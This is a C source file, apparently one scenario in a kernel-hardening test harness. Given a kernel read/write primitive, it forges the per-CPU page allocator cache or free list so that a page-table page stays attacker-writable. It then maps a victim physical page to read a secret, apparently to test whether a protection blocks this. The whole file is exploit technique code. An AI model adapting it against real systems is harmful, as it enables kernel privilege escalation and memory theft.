// SPDX-License-Identifier: GPL-2.0-only
/*
 * The allocator of page-table pages is made to hand out a page the attacker
 * can still write: whatever he puts there becomes a live page-table entry.
 */
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define TRIES		16
#define POOL_PART	0x52

struct page {
	uint64_t addr;		/* direct map */
	uint64_t page;		/* struct page */
};

static bool page_alloc(struct page *page)
{
	if (corrupt_command("alloc order=0"))
		return false;
	page->addr = corrupt_answer("address");
	page->page = corrupt_answer("page");
	return true;
}

/* Words of this CPU's state that are addresses of whole pages: the magazine. */
static int forge_magazine(uint64_t state, uint64_t ours, uint64_t *words)
{
	uint64_t base = direct_map_base(), limit = 1UL << (address_bits() - 4);
	int err = -ENOENT;
	size_t i;

	kread(state, words, PAGE_SIZE);
	for (i = 0; i < table_entries(); i++) {
		if (words[i] <= base || words[i] - base > limit || words[i] % PAGE_SIZE)
			continue;
		err = kwrite64(state + i * sizeof(*words), ours);
		if (err)
			break;
	}
	return err;
}

static void restore_magazine(uint64_t state, uint64_t ours, const uint64_t *words)
{
	size_t i;

	for (i = 0; i < table_entries(); i++)
		if (words[i] != ours && kread64(state + i * sizeof(*words)) == ours)
			kwrite64(state + i * sizeof(*words), words[i]);
}

/* Make page tables until one of them is ours. */
static bool wait_for_page(volatile char *base, const struct page *ours,
			  struct window *window)
{
	int i;

	for (i = 1; i < TRIES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		if (window->slot - ours->addr < PAGE_SIZE)
			return true;
	}
	return false;
}

/* The page has two owners now: keep its second free from being a real one. */
static void keep_page(const struct page *ours)
{
	unsigned int count = 2;

	kwrite(ours->page + PAGE_REFCOUNT, &count, sizeof(count));
}

static enum outcome use_page(volatile char *base, const struct page *ours, int forged)
{
	struct window window;
	char text[64];
	int err;

	if (!wait_for_page(base, ours, &window))
		return lost("list changed: %s; no page-table page came from it",
			    forged ? strerror(-forged) : "yes");
	keep_page(ours);
	err = window_map(&window, plain_store, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	window_close(&window);
	return judge_secret(text, err);
}

enum outcome pool_free_list(void)
{
	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
	volatile char *base = sparse_region(user_room(POOL_PART), TRIES, PROT_READ);
	uint64_t state, on = 0;
	enum outcome outcome;
	struct page ours;
	int err;

	if (!base)
		return broken("no room");
	(void)base[0];	/* from here on only tables of the lowest level */
	stay_on_cpu(0);
	state = ksymbol_cpu("kpkeys_cpu", 0);
	if (state && !corrupt_command("register"))
		on = corrupt_answer("shut");
	if (!page_alloc(&ours))
		return broken("no memory");
	if (on)
		err = forge_magazine(state, ours.addr, words);
	else
		err = put_on_free_list(ours.page, 0);
	outcome = use_page(base, &ours, err);
	if (on)
		restore_magazine(state, ours.addr, words);
	return outcome;
}
